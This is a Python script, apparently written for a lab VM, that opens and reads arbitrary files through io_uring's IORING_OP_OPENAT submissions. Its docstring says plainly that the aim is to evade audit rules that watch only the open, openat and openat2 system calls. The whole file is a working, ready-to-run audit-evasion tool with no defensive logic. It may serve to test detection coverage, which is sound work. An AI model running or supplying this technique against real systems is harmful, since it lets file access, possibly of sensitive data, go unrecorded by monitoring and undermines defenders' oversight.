#!/usr/bin/env python3
"""Open and read files through io_uring (IORING_OP_OPENAT), never the open system calls.

Copied into the lab VM and run there by a login user: how a reader evades audit rules that
watch only open/openat/openat2 (the kernel filters io_uring operations with their own rule
list). Prints the number of files opened and read; a failed open is reported on stderr.

    python3 uring_open.py FILE...
"""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
import sys

SYS_IO_URING_SETUP, SYS_IO_URING_ENTER = 425, 426  # x86_64 (and every 64-bit arch since 5.1)
IORING_OP_OPENAT, AT_FDCWD, IORING_ENTER_GETEVENTS = 18, -100, 1
IORING_OFF_SQ_RING, IORING_OFF_CQ_RING, IORING_OFF_SQES = 0, 0x8000000, 0x10000000
SQE = struct.Struct("<BBHiQQIIQHHiQQ")  # struct io_uring_sqe, 64 bytes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(*args: object) -> int:
    r = libc.syscall(*args)
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def main(paths: list[str]) -> int:
    params = ctypes.create_string_buffer(120)  # struct io_uring_params
    fd = syscall(SYS_IO_URING_SETUP, 8, params)
    sq_entries, cq_entries = struct.unpack_from("<II", params, 0)
    sq_off = struct.unpack_from("<8I", params, 40)  # head tail ring_mask ring_entries flags dropped array -
    cq_off = struct.unpack_from("<8I", params, 80)  # head tail ring_mask ring_entries overflow cqes flags -
    prot, flags = mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED
    sq = mmap.mmap(fd, sq_off[6] + sq_entries * 4, flags, prot, offset=IORING_OFF_SQ_RING)
    cq = mmap.mmap(fd, cq_off[5] + cq_entries * 16, flags, prot, offset=IORING_OFF_CQ_RING)
    sqes = mmap.mmap(fd, sq_entries * 64, flags, prot, offset=IORING_OFF_SQES)
    opened = 0
    for path in paths:
        name = ctypes.create_string_buffer(os.fsencode(path))
        tail = struct.unpack_from("<I", sq, sq_off[1])[0]
        idx = tail & struct.unpack_from("<I", sq, sq_off[2])[0]
        sqes[idx * 64 : idx * 64 + 64] = SQE.pack(
            IORING_OP_OPENAT, 0, 0, AT_FDCWD, 0, ctypes.addressof(name), 0, os.O_RDONLY, 1, 0, 0, 0, 0, 0
        )
        struct.pack_into("<I", sq, sq_off[6] + idx * 4, idx)
        struct.pack_into("<I", sq, sq_off[1], tail + 1)
        syscall(SYS_IO_URING_ENTER, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0)
        head = struct.unpack_from("<I", cq, cq_off[0])[0]
        cqe = cq_off[5] + (head & struct.unpack_from("<I", cq, cq_off[2])[0]) * 16
        _user_data, res, _flags = struct.unpack_from("<QiI", cq, cqe)
        struct.pack_into("<I", cq, cq_off[0], head + 1)
        if res < 0:
            print("%s: %s" % (path, os.strerror(-res)), file=sys.stderr)
            continue
        while os.read(res, 1 << 16):
            pass
        os.close(res)
        opened += 1
    print(opened)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
